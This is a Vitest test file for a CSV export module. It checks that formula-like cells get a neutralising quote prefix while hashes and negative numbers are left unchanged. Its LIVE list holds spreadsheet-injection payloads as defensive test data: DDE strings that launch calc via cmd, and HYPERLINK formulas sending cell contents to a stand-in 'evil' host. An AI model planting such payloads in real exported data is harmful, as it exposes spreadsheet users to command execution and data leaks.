import { buffer, text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvCell, csvStream, isLiveFormula, toCsv } from '../../src/store/csv.js';

/**
 * Issue 12, Low: "CSV cells starting with TAB or CR stay live formulas, and the
 * `'` prefix corrupts hashes that start with `-`". One writer (csv-stringify)
 * for the HTTP exports and `gatewarden trace`; a cell gets the `'` prefix
 * only when a spreadsheet would evaluate it.
 */

const LIVE = [
  '=1+1',
  '=cmd|\' /C calc\'!A0',
  '+86 10 1234',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=HYPERLINK("http://evil/?"&A1)',
  '\r=1+1',
  '\n=1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '-cmd|\' /C calc\'!A0',
  '-HYPERLINK("http://evil")',
  '- 1',
];
/** Keyed hashes (base64url, 22 characters, may start with `-`), negative numbers as text, plain words. */
const PLAIN = ['-Xa9_kQ3-mZ0pL7tR2wB4c', '--7fQ_9aZ0-bC1dE2fG3hI', '-3.5', '-1e3', 'main', 'CODE_RED FEVER', 'Lotus Garden 北门', ''];

describe('CSV formula escaping (issue 12)', () => {
  it.each(LIVE)('defuses %j with a leading quote', (cell) => {
    expect(isLiveFormula(cell)).toBe(true);
    expect(csvCell(cell)).toBe(`'${cell}`);
  });

  it.each(PLAIN)('leaves %j byte for byte', (cell) => {
    expect(isLiveFormula(cell)).toBe(false);
    expect(csvCell(cell)).toBe(cell);
  });

  it('keeps numbers as numbers, negative ones included, and joins arrays with spaces', () => {
    expect(csvCell(-4.5)).toBe(-4.5);
    expect(csvCell(['FEVER', 'CODE_RED'])).toBe('FEVER CODE_RED');
    expect(csvCell(['=1+1', 'x'])).toBe("'=1+1 x");
    expect(csvCell(null)).toBe('');
  });

  it('writes RFC 4180: CRLF rows, quotes doubled, a cell with CR quoted after its prefix, a hash unquoted and intact', () => {
    const csv = toCsv(['subject', 'note', 'temperatureC'], [
      { subject: '-Xa9_kQ3-mZ0pL7tR2wB4c', note: 'say "hi", then go', temperatureC: -1.5 },
      { subject: '\r=1+1', note: '\tcmd', temperatureC: null },
    ]);
    expect(csv).toBe(['subject,note,temperatureC', '-Xa9_kQ3-mZ0pL7tR2wB4c,"say ""hi"", then go",-1.5', `"'\r=1+1",'\tcmd,`, ''].join('\r\n'));
    expect(toCsv(['a'], [{ a: 'one\ntwo' }]), 'a bare LF is a line break: quoted').toBe('a\r\n"one\ntwo"\r\n');
  });

  it('writes the header alone when there are no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });

  it('starts with a UTF-8 byte order mark only when asked (Excel)', async () => {
    expect(toCsv(['gate'], [{ gate: '北门' }], { bom: true })).toBe('\uFEFFgate\r\n北门\r\n');
    expect(toCsv(['gate'], [{ gate: '北门' }]).startsWith('\uFEFF')).toBe(false);
    async function* rows() {
      yield { gate: '北门' };
      yield { gate: '@east' };
    }
    // As bytes: a TextDecoder (stream/consumers text()) drops a leading BOM.
    expect((await buffer(csvStream(['gate'], rows(), { bom: true }))).toString('utf8')).toBe("\uFEFFgate\r\n北门\r\n'@east\r\n");
  });

  it('streams rows as the plain writer does, and ends the stream with an error from the rows', async () => {
    const rows = [{ a: '=x', b: 1 }, { a: '-Xa9_kQ3-mZ0pL7tR2wB4c', b: -2 }];
    expect(await text(csvStream(['a', 'b'], rows))).toBe(toCsv(['a', 'b'], rows));
    async function* failing() {
      yield { a: 1 };
      throw new Error('database gone');
    }
    await expect(text(csvStream(['a'], failing()))).rejects.toThrow('database gone');
  });
});
